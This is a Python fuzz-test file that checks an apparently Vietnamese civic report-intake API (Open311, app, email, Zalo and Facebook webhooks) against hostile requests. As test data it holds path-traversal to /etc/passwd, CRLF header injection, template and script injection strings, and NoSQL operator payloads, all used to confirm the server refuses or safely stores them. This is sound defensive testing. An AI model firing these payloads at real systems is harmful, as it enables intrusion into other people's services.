    if kind == "search":
        name = draw(
            st.sampled_from(
                [
                    "service_request_id",
                    "service_code",
                    "status",
                    "start_date",
                    "end_date",
                    "service_request_id[$ne]",
                ]
            )
        )
        return Hostile("GET", f"/open311/v2/requests.{fmt}?{name}={quoted}")
    if kind in ("one", "token", "service"):
        resource = {"one": "requests", "token": "tokens", "service": "services"}[kind]
        return Hostile(
            "GET", f"/open311/v2/{resource}/{segment}{draw(st.sampled_from(['', quoted]))}.{fmt}"
        )
    if kind == "handshake":
        query = urlencode(
            {
                "hub.mode": draw(st.sampled_from(["subscribe", value])),
                "hub.verify_token": draw(st.sampled_from([FB_TOKEN, value])),
                "hub.challenge": value,
            },
            encoding="utf-8",
            errors="surrogatepass",
        )
        return Hostile("GET", f"{FACEBOOK_PATH}?{query}")
    fields = {
        "api_key": KEYS["open311:clients"],
        "service_code": "urban_order",
        "description": SEED,
        "lat": "21.3",
        "long": "103.9",
    }
    fields[
        draw(st.sampled_from([*fields, "attribute[ward]", "media_url", "email", "api_key[$ne]"]))
    ] = value
    body = urlencode(fields, encoding="utf-8", errors="surrogatepass").encode()
    return Hostile(
        "POST",
        f"/open311/v2/requests.{fmt}",
        {"Content-Type": "application/x-www-form-urlencoded"},
        body,
    )


ANY_HOSTILE = st.one_of(
    malformed_json(),
    random_bytes(),
    oversized(),
    mis_encoded(),
    mis_signed(),
    signed_hostile_webhook(),
    injection_laden(),
    hostile_headers(),
    open311_hostile(),
)


# --- the properties --------------------------------------------------------------------


@SETTINGS
@given(malformed_json())
async def test_malformed_json_is_refused_with_a_reason_or_accepted_as_sent(
    front: Front, request: Hostile
) -> None:
    await exercise(front, request)


@SETTINGS
@given(random_bytes())
async def test_random_bytes_with_any_content_type_never_crash_the_front(
    front: Front, request: Hostile
) -> None:
    await exercise(front, request)


@settings(SETTINGS, max_examples=max(20, EXAMPLES // 5))
@given(oversized())
async def test_oversized_bodies_are_refused_with_413(front: Front, request: Hostile) -> None:
    response = await exercise(front, request)

    assert response.status_code == 413
    if request.path.startswith("/channels/"):
        assert response.json()["error"]["code"] == "payload_too_large"


@SETTINGS
@given(mis_encoded())
async def test_mis_encoded_text_is_refused_or_kept_byte_for_byte(
    front: Front, request: Hostile
) -> None:
    await exercise(front, request)


@SETTINGS
@given(mis_signed())
async def test_mis_signed_webhooks_are_refused_and_publish_nothing(
    front: Front, request: Hostile
) -> None:
    response = await exercise(front, request)

    # A body over the front's size limit is refused for its size before its signature is
    # checked (a mutated payload can grow past it); publishes nothing either way.
    too_large = len(request.body) > MAX_BODY
    expected = (413, "payload_too_large") if too_large else (401, "bad_signature")
    assert (response.status_code, response.json()["error"]["code"]) == expected


@SETTINGS
@given(signed_hostile_webhook())
async def test_signed_webhooks_with_hostile_json_are_answered_200(
    front: Front, request: Hostile
) -> None:
    response = await exercise(front, request)

    # Zalo's signature covers the body's string "timestamp": without one, nothing is signed.
    signed = request.path == FACEBOOK_PATH or zalo_timestamp(request.body) is not None
    expected = 413 if len(request.body) > MAX_BODY else 200 if signed else 401
    assert response.status_code == expected, response.text


@SETTINGS
@given(injection_laden())
@example(
    Hostile(
        "POST",
        "/channels/app/reports",
        {**auth("app:sonla-smart"), "Content-Type": "application/json"},
        json.dumps({**APP_REPORT, "text": "{{7*7}} <script>x</script>", "$where": "1"}).encode(),
    )
)
async def test_injection_laden_fields_are_kept_as_data(front: Front, request: Hostile) -> None:
    response = await exercise(front, request)

    # Kept as sent (exercise checks the published bytes), answered in JSON, never echoed
    # back but for the client's own message id.
    assert response.status_code in (202, 413, 422), response.text
    assert response.headers["content-type"] == "application/json"
    if response.status_code == 202:
        assert set(response.json()) == {"status", "channel_message_id", "tracking_codes"}


@SETTINGS
@given(hostile_headers())
async def test_garbage_credentials_and_idempotency_keys_are_refused(
    front: Front, request: Hostile
) -> None:
    await exercise(front, request)


@SETTINGS
@given(open311_hostile())
@example(Hostile("GET", "/open311/v2/requests.json?end_date=0001-01-01T00:00:00"))
@example(Hostile("GET", "/open311/v2/requests.json?start_date=9999-12-31T00:00:00"))
async def test_open311_lookups_and_posts_with_hostile_values(
    front: Front, request: Hostile
) -> None:
    await exercise(front, request)


@settings(SETTINGS, max_examples=max(30, EXAMPLES // 2))
@given(ANY_HOSTILE)
async def test_hostile_requests_over_a_real_socket(socket_front: Front, request: Hostile) -> None:
    await exercise(socket_front, request)


async def test_a_client_announcing_a_huge_body_is_answered_at_once(served: Served) -> None:
    # Content-Length of 10 GB and no body at all: 413 from the header, without waiting.
    host, port = served.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(
        b"POST /channels/app/reports HTTP/1.1\r\nHost: intake\r\n"
        + f"Authorization: Bearer {KEYS['app:sonla-smart']}\r\n".encode()
        + b"Content-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n"
    )
    await writer.drain()
    status_line = await asyncio.wait_for(reader.readline(), TIMEOUT_S)
    writer.close()

    assert status_line.split()[1] == b"413"


@pytest.mark.parametrize(
    "raw",
    [
        b"POST /channels/app/reports HTTP/1.1\r\nHost: x\r\nX-Api-Key: a\rb\r\n\r\n",
        b"POST /channels/app/reports HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"POST /channels/app/reports HTTP/1.1\r\nHost: x\r\nContent-Length: 1e9\r\n\r\n",
        b"GET /open311/v2/requests/../../../etc/passwd.json HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /open311/v2/requests.json?status=%0d%0aSet-Cookie:x HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64,
    ],
    ids=["bare-cr-in-header", "negative-length", "float-length", "traversal", "crlf-query", "tls"],
)
async def test_malformed_http_is_refused_by_the_server(served: Served, raw: bytes) -> None:
    reader, writer = await asyncio.open_connection(*served.url.removeprefix("http://").split(":"))
    writer.write(raw)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(4096), TIMEOUT_S)
    writer.close()

    status = answer.split(b" ", 2)[1] if answer.startswith(b"HTTP/1.1 ") else b"closed"
    assert status in (b"400", b"404", b"closed"), answer[:200]
    assert b"Set-Cookie" not in answer
    OUTCOMES[f"socket raw {status.decode()}"] += 1


# --- schemathesis: the OpenAPI document against the front on a real port ---------------

EMAILS = st.one_of(
    st.binary(max_size=2000),
    st.builds(
        lambda message_id, subject, text: (
            (
                f"Message-ID: <{message_id}>\r\nSubject: {subject}\r\n"
                "Content-Type: text/plain; charset=utf-8\r\n\r\n"
            ).encode("utf-8", "surrogatepass")
            + text.encode("utf-8", "surrogatepass")
        ),
        st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=1, max_size=80),
        st.text(max_size=80).map(lambda s: s.replace("\r", " ").replace("\n", " ")),
        hostile_text,
    ),
)
schemathesis.openapi.media_type("message/rfc822", EMAILS)
SCHEMA = schemathesis.openapi.from_dict(DOCUMENT)
SCHEMA.config.generation.update(max_examples=max(10, EXAMPLES // 10))
CHECKS = [
    status_code_conformance,
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
]
"""No 5xx, and every answer as documented: status, media type, headers and body."""
API_KEY_CLIENTS = {
    "/channels/app/reports": "app:sonla-smart",
    "/channels/web/reports": "web:cong-thong-tin",
    "/channels/hotline/tickets": "hotline:tong-dai",
    "/channels/email/messages": "email:relay",
    "/channels/collaborators/reports": "collaborator:mang-luoi-ctv",
}


@SCHEMA.parametrize()
def test_the_front_answers_as_its_openapi_document_says(case: Any, served: Served) -> None:
    path = case.operation.path
    headers: dict[str, str] = {}
    if path in API_KEY_CLIENTS:  # valid keys, so that generated payloads reach the parsers
        headers = {"X-Api-Key": KEYS[API_KEY_CLIENTS[path]]}
    if case.method == "POST" and path.startswith("/open311/") and isinstance(case.body, dict):
        case.body["api_key"] = KEYS["open311:clients"]
    if case.method == "POST" and path in (ZALO_PATH, FACEBOOK_PATH):
        # Signed over the exact bytes sent, so that the payload reaches the parser.
        kwargs = case.as_transport_kwargs(base_url=served.url)
        sent = kwargs.pop("data", None)
        body = json.dumps(kwargs.pop("json")).encode() if "json" in kwargs else sent or b""
        body = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
        sign = {ZALO_PATH: ("X-ZEvent-Signature", zalo_signature)}
        name, signature = sign.get(path, ("X-Hub-Signature-256", facebook_signature))
        kwargs["headers"] = {
            **kwargs.get("headers", {}),
            "Content-Type": "application/json",
            name: signature(body),
        }
        response = requests.request(**kwargs, data=body, timeout=TIMEOUT_S)
    else:
        response = case.call(base_url=served.url, headers=headers, timeout=TIMEOUT_S)
    # /readyz answers its documented 503 here: the front runs without its consumers.
    case.validate_response(
        response, checks=CHECKS if path == "/readyz" else [*CHECKS, not_a_server_error]
    )
    OUTCOMES[f"schemathesis {case.method} {path} {response.status_code}"] += 1
